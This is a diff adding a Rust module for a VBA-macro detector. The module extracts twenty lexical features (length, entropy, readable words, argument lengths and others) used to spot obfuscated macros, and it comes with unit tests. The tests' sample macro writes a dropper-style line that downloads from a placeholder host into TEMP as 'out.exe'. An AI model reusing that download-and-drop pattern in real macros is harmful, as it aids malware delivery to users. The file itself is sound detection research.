@@ -1,0 +1,272 @@
+//! The comparison feature set J1–J20 (paper Table VI), assembled from the
+//! obfuscated-JavaScript detection literature (Likarish et al. \[24\] and
+//! Aebersold et al. \[26\]) and adapted to VBA as described in §V: J14 uses a
+//! 150-character threshold (VBA has no minification), and JS-only features
+//! (e.g. `eval()` counts) are omitted — exactly the 20 rows of Table VI.
+
+use crate::entropy::shannon_entropy;
+use crate::mean;
+use vbadet_vba::{MacroAnalysis, TokenKind};
+
+/// Number of J features.
+pub const J_DIM: usize = 20;
+
+/// Feature names, index-aligned with the vector.
+pub const J_NAMES: [&str; J_DIM] = [
+    "J1 length in characters",
+    "J2 avg. # of chars per line",
+    "J3 total number of lines",
+    "J4 # of strings",
+    "J5 % human readable",
+    "J6 % whitespace",
+    "J7 % of methods called",
+    "J8 avg. string length",
+    "J9 avg. argument length",
+    "J10 # of comments",
+    "J11 avg. comments per line",
+    "J12 # words",
+    "J13 % words not in comments",
+    "J14 % of lines > 150 chars",
+    "J15 shannon entropy of the file",
+    "J16 share of chars belonging to a string",
+    "J17 % of backslash characters",
+    "J18 avg. # of chars per function body",
+    "J19 % of chars belonging to a function body",
+    "J20 # of function definitions divided by J1",
+];
+
+/// Extracts J1–J20 from macro source code.
+pub fn j_features(source: &str) -> [f64; J_DIM] {
+    j_features_from(&MacroAnalysis::new(source))
+}
+
+/// Extracts J1–J20 from an existing lexical analysis.
+pub fn j_features_from(analysis: &MacroAnalysis) -> [f64; J_DIM] {
+    let source = analysis.source();
+    let total_chars = analysis.char_len() as f64;
+    let lines = analysis.lines();
+    let line_count = lines.len() as f64;
+
+    let j1 = total_chars;
+    let j2 = if line_count == 0.0 { 0.0 } else { total_chars / line_count };
+    let j3 = line_count;
+
+    let strings = analysis.strings();
+    let j4 = strings.len() as f64;
+
+    let words = analysis.words();
+    let comment_words = analysis.comment_words();
+    let all_word_count = (words.len() + comment_words.len()) as f64;
+    let readable = words
+        .iter()
+        .chain(comment_words.iter())
+        .filter(|w| is_human_readable(w))
+        .count() as f64;
+    let j5 = if all_word_count == 0.0 { 0.0 } else { readable / all_word_count };
+
+    let whitespace = source.chars().filter(|c| c.is_whitespace()).count() as f64;
+    let j6 = if total_chars == 0.0 { 0.0 } else { whitespace / total_chars };
+
+    let calls = analysis.call_sites();
+    let j7 = if all_word_count == 0.0 { 0.0 } else { calls.len() as f64 / all_word_count };
+
+    let j8 = mean(strings.iter().map(|s| s.chars().count() as f64));
+    let j9 = mean(argument_lengths(analysis).into_iter());
+
+    let comments = analysis.comments();
+    let j10 = comments.len() as f64;
+    let j11 = if line_count == 0.0 { 0.0 } else { j10 / line_count };
+
+    let j12 = all_word_count;
+    let j13 = if all_word_count == 0.0 { 0.0 } else { words.len() as f64 / all_word_count };
+
+    let long_lines = lines.iter().filter(|l| l.chars().count() > 150).count() as f64;
+    let j14 = if line_count == 0.0 { 0.0 } else { long_lines / line_count };
+
+    let j15 = shannon_entropy(source);
+    let j16 = if total_chars == 0.0 {
+        0.0
+    } else {
+        analysis.string_chars() as f64 / total_chars
+    };
+
+    let backslashes = source.chars().filter(|&c| c == '\\').count() as f64;
+    let j17 = if total_chars == 0.0 { 0.0 } else { backslashes / total_chars };
+
+    let bodies = analysis.procedure_body_spans();
+    let body_chars: f64 = bodies
+        .iter()
+        .map(|&(s, e)| source[s..e].chars().count() as f64)
+        .sum();
+    let j18 = if bodies.is_empty() { 0.0 } else { body_chars / bodies.len() as f64 };
+    let j19 = if total_chars == 0.0 { 0.0 } else { body_chars / total_chars };
+    let j20 = if total_chars == 0.0 { 0.0 } else { bodies.len() as f64 / total_chars };
+
+    [
+        j1, j2, j3, j4, j5, j6, j7, j8, j9, j10, j11, j12, j13, j14, j15, j16, j17, j18, j19,
+        j20,
+    ]
+}
+
+/// A word "reads like language": alphabetic, bounded length, contains a
+/// vowel, and has no long consonant run (Likarish et al.'s human-readable
+/// property, operationalized).
+fn is_human_readable(word: &str) -> bool {
+    if word.len() < 2 || word.len() > 15 || !word.chars().all(|c| c.is_ascii_alphabetic()) {
+        return false;
+    }
+    let lower = word.to_ascii_lowercase();
+    let is_vowel = |c: char| matches!(c, 'a' | 'e' | 'i' | 'o' | 'u');
+    if !lower.chars().any(is_vowel) {
+        return false;
+    }
+    let mut run = 0usize;
+    for c in lower.chars() {
+        if is_vowel(c) {
+            run = 0;
+        } else {
+            run += 1;
+            if run > 4 {
+                return false;
+            }
+        }
+    }
+    true
+}
+
+/// Character lengths of call arguments: for each call-site `name(…)`, the
+/// top-level comma-separated argument spans.
+fn argument_lengths(analysis: &MacroAnalysis) -> Vec<f64> {
+    let tokens = analysis.tokens();
+    let source = analysis.source();
+    let mut out = Vec::new();
+    let mut i = 0usize;
+    while i < tokens.len() {
+        let is_call_open = matches!(tokens[i].kind, TokenKind::Identifier(_))
+            && matches!(tokens.get(i + 1).map(|t| &t.kind), Some(TokenKind::Operator("(")));
+        if !is_call_open {
+            i += 1;
+            continue;
+        }
+        // Find the matching close paren, collecting top-level comma splits.
+        let open = i + 1;
+        let mut depth = 0usize;
+        let mut arg_start = tokens[open].end;
+        let mut j = open;
+        let mut spans: Vec<(usize, usize)> = Vec::new();
+        let mut closed = false;
+        while j < tokens.len() {
+            match &tokens[j].kind {
+                TokenKind::Operator("(") => depth += 1,
+                TokenKind::Operator(")") => {
+                    depth -= 1;
+                    if depth == 0 {
+                        spans.push((arg_start, tokens[j].start));
+                        closed = true;
+                        break;
+                    }
+                }
+                TokenKind::Operator(",") if depth == 1 => {
+                    spans.push((arg_start, tokens[j].start));
+                    arg_start = tokens[j].end;
+                }
+                _ => {}
+            }
+            j += 1;
+        }
+        if closed {
+            for (s, e) in spans {
+                let text = source[s..e].trim();
+                if !text.is_empty() {
+                    out.push(text.chars().count() as f64);
+                }
+            }
+            i = j + 1;
+        } else {
+            i += 1;
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const SAMPLE: &str = "Sub Go()\r\n\
+        ' a helpful comment\r\n\
+        path = Environ(\"TEMP\") & \"\\out.exe\"\r\n\
+        r = Download(\"http://x.test/a\", path)\r\n\
+        End Sub\r\n";
+
+    #[test]
+    fn vector_shape() {
+        let j = j_features(SAMPLE);
+        assert_eq!(j.len(), J_DIM);
+        assert_eq!(J_NAMES.len(), J_DIM);
+        assert!(j.iter().all(|x| x.is_finite()));
+    }
+
+    #[test]
+    fn empty_source_is_all_zero() {
+        assert!(j_features("").iter().all(|&x| x == 0.0));
+    }
+
+    #[test]
+    fn counts_are_plausible() {
+        let j = j_features(SAMPLE);
+        assert_eq!(j[0], SAMPLE.chars().count() as f64); // J1
+        assert_eq!(j[2], 5.0); // J3 lines
+        assert_eq!(j[3], 3.0); // J4 strings
+        assert_eq!(j[9], 1.0); // J10 comments
+        assert!(j[5] > 0.0 && j[5] < 1.0); // J6 whitespace share
+    }
+
+    #[test]
+    fn human_readable_heuristic() {
+        for w in ["hello", "Program", "counter", "open"] {
+            assert!(is_human_readable(w), "{w}");
+        }
+        for w in ["xqzptvk", "ueiwjfdjkfdsv", "a", "x1b2", "abcdefghijklmnop"] {
+            assert!(!is_human_readable(w), "{w}");
+        }
+    }
+
+    #[test]
+    fn j5_falls_under_random_identifiers() {
+        let readable = j_features("Dim counter\r\ncounter = counter + 1\r\n");
+        let random = j_features("Dim yruuehdjdnnz\r\nyruuehdjdnnz = yruuehdjdnnz + 1\r\n");
+        assert!(readable[4] > random[4]);
+    }
+
+    #[test]
+    fn j9_measures_argument_lengths() {
+        // Arguments: `1` (1 char), `"abcdefgh"` (10 chars incl. quotes).
+        let j = j_features("r = F(1, \"abcdefgh\")");
+        assert!((j[8] - 5.5).abs() < 1e-9, "J9 = {}", j[8]);
+        // Nested calls count the outer argument span once and inner args too.
+        let nested = j_features("r = F(G(22))");
+        assert!(nested[8] > 0.0);
+    }
+
+    #[test]
+    fn j14_long_lines() {
+        let long_line = format!("x = \"{}\"\r\ny = 1\r\n", "a".repeat(200));
+        let j = j_features(&long_line);
+        assert!((j[13] - 0.5).abs() < 1e-9, "one of two lines is long: {}", j[13]);
+    }
+
+    #[test]
+    fn j17_backslashes() {
+        let j = j_features("p = \"C:\\dir\\file.exe\"");
+        assert!(j[16] > 0.0);
+    }
+
+    #[test]
+    fn j18_j19_j20_function_bodies() {
+        let j = j_features(SAMPLE);
+        assert!(j[17] > 0.0, "J18 body length");
+        assert!(j[18] > 0.9, "J19 nearly all chars in one body: {}", j[18]);
+        assert!(j[19] > 0.0, "J20 definitions per char");
+    }
+}
